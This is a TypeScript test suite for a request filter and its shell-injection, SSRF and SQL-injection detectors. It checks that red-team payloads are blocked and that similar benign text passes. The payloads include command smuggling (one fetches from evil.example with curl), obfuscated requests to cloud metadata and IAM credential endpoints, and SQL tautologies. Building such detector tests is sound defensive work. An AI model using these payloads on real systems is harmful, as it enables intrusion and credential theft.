/**
 * Red team, round 4 (session 21): payloads that work in a real sink (a shell command line built with
 * the input, a URL built by concatenation, an SQL query built in a quoted or numeric context) and
 * passed the real Lambda `protect()` at paranoia 1, as a query value and as a JSON body field. Each
 * must now be answered 403 in both places; the nearest benign text must still reach the handler.
 * Vectors written for this suite; why each works in its sink is said beside it.
 */
import t from 'tap';
import { redteamProtectTests } from '../helpers/redteam';
import { detectShellInjection } from '../../src/detectors/shell-injection';
import { detectSsrf } from '../../src/detectors/ssrf';
import { detectSqlInjection } from '../../src/detectors/sql-injection';

const ATTACKS: Array<[string, string]> = [
  // Shell (`sh -c "ping -c 1 " + host`, /bin/sh is bash on Amazon Linux).
  ['sh: a command after `if`', 'x;if whoami;then :;fi'],
  ['sh: a time probe as the condition of `if`', 'x;if sleep 5;then :;fi'],
  ['sh: a command as the condition of `while`', 'x;while sleep 5;do break;done'],
  ['sh: a command as the condition of `until`', 'x;until id;do :;done'],
  ['sh: a command after `elif`', 'x;if false;then :;elif id;then :;fi'],
  ['sh: bash coproc runs its command in the background', 'x;coproc curl evil.example'],
  ['sh: the command of a case clause', 'x;case a in a)id;esac'],
  ['sh: the command of a case clause after `;;`', 'x;case a in b)date;;a)sleep 5;;esac'],
  ['sh: a leading output redirection before the command', 'x;>/tmp/o id'],
  ['sh: a leading input redirection before the command', 'x;</dev/null id'],
  ['sh: a file-descriptor redirection (IO number) before the command', 'x;2>&1 whoami'],
  ['sh: a file-descriptor redirection before a time probe', 'x;2>&1 sleep 5'],
  ['sh: a variable assigned by declare, run', 'x;declare a=id;$a'],
  ['sh: a variable assigned by local, run', 'x;local a=id;$a'],
  ['sh: a variable assigned by typeset after other assignments', 'x;typeset b=1 c=2 a=id;$a'],
  ['sh: a variable assigned by readonly, run', 'x;readonly a=id;$a'],
  ['sh: a positional parameter set by set --, run', 'x;set -- id;$1'],
  ['sh: bash indirection to an assigned variable', 'x;a=whoami;b=a;${!b}'],
  ['sh: a function defined with the function keyword', 'x;function f { whoami; };f'],
  ['sh: a function defined with the function keyword and ()', 'x;function f() { id; };f'],
  // SSRF (`fetch('http://' + host)`, `fetch(BASE + path)` with BASE lacking its slash).
  ['ssrf: the metadata address as one decimal number, with a path', '2852039166/latest/meta-data/'],
  ['ssrf: the metadata address as one hex number, with a path', '0xa9fea9fe/latest/meta-data/iam/'],
  ['ssrf: loopback in hex, with a path', '0x7f000001/admin'],
  ['ssrf: loopback in octal short form, with a path', '0177.1/admin'],
  ['ssrf: userinfo trick without a scheme, metadata host', '@169.254.169.254/latest/meta-data/'],
  ['ssrf: a public name as userinfo before the metadata host', 'evil.example@169.254.169.254/'],
  ['ssrf: userinfo before loopback', 'x@127.0.0.1/admin'],
  ['ssrf: userinfo before bracketed IPv6 loopback', '@[::1]/admin'],
  ['ssrf: userinfo before the metadata address as a number', '@2852039166/latest/'],
  ['ssrf: userinfo before the GCP metadata name', '@metadata.google.internal/computeMetadata/v1/'],
  // SQL (`"… WHERE name='" + v + "'"`, `"… WHERE id=" + v`; MySQL's `#` comment).
  ["sql: OR a column, then MySQL's # comment", "' or id#"],
  ["sql: AND a column, then MySQL's # comment", "admin' and id#"],
  ["sql: numeric OR constant, then MySQL's # comment", '1 or 1#'],
  ['sql: numeric OR constant, then a dash comment', '1 or 1-- -'],
  ['sql: numeric OR constant, then a block comment', '1 or 2/*'],
];

/** The nearest benign text: must reach the handler (200) from both places. */
const BENIGN: string[] = [
  'If whoami prints root, stop.',
  'Wait; while you are here, check the logs',
  'while',
  'x; while',
  'In case in doubt) ask me',
  'Just in case (a) it breaks',
  'Use 2>&1 to merge the output',
  'Redirect 2>&1 in your cron line',
  'declare a winner',
  'The function f { } is empty',
  'set the table; then eat',
  'local news; readonly mode',
  '2130706433/photo.jpg',
  '12/25/2024',
  '01/02/2024',
  '0/index.html',
  '2852039166',
  'user@localhost/',
  'bob@localhost',
  'foo@example.com/bar',
  '@types/node',
  '@scope/package',
  'email: bob@localhost/x is weird',
  'aaa@metadata/a',
  '1 or 2',
  '1 or 2 #',
  'Pick 1 or 2#',
  "Java' or C#",
  "Kids' or adults' #",
  "x' or y #hashtag",
  'I would go with 1 or 2 -- not sure',
  '#1 or #2',
];

redteamProtectTests(t, {
  functionName: 'redteam-r4',
  attacks: ATTACKS,
  benign: BENIGN,
  titles: { attacks: 'round 4 attacks are blocked as a query value and as a JSON body field', benign: 'the nearest benign text reaches the handler' },
});

t.test('each attack is found by the detector of its class, at high', async (t) => {
  const byClass = { sh: detectShellInjection, ssrf: detectSsrf, sql: detectSqlInjection } as const;
  for (const [name, value] of ATTACKS) {
    const cls = name.slice(0, name.indexOf(':')) as keyof typeof byClass;
    t.equal(byClass[cls](value)?.confidence, 'high', `${name}: ${JSON.stringify(value)}`);
  }
  // Findings keep their rule names where a rule already answered high: `' or 1#` is a tautology.
  t.equal(detectSqlInjection("' or 1#")?.rule, 'sqli.tautology');
  t.equal(detectSqlInjection('1 or 1#')?.rule, 'sqli.tautology');
  t.equal(detectSsrf('2852039166/latest/meta-data/')?.rule, 'ssrf.metadata');
  t.equal(detectSsrf('x@127.0.0.1/admin')?.rule, 'ssrf.internal-ip');
  // A bare address or number are as before (not high). (A spaced `#`, `' or id #`, is high since
  // round 5: MySQL reads the blank as nothing; see redteam-sinks-r5.)
  t.not(detectSsrf('0xa9fea9fe')?.confidence, 'high');
  t.not(detectSsrf('spoofed@169.254.169.254')?.confidence, 'high');
  // The prefix reading of `while` and the rest keeps the separator's kind: spaced, as before.
  t.not(detectShellInjection('x; id')?.confidence, 'high');
  t.not(detectShellInjection('x; >/tmp/o id')?.confidence, 'high');
});
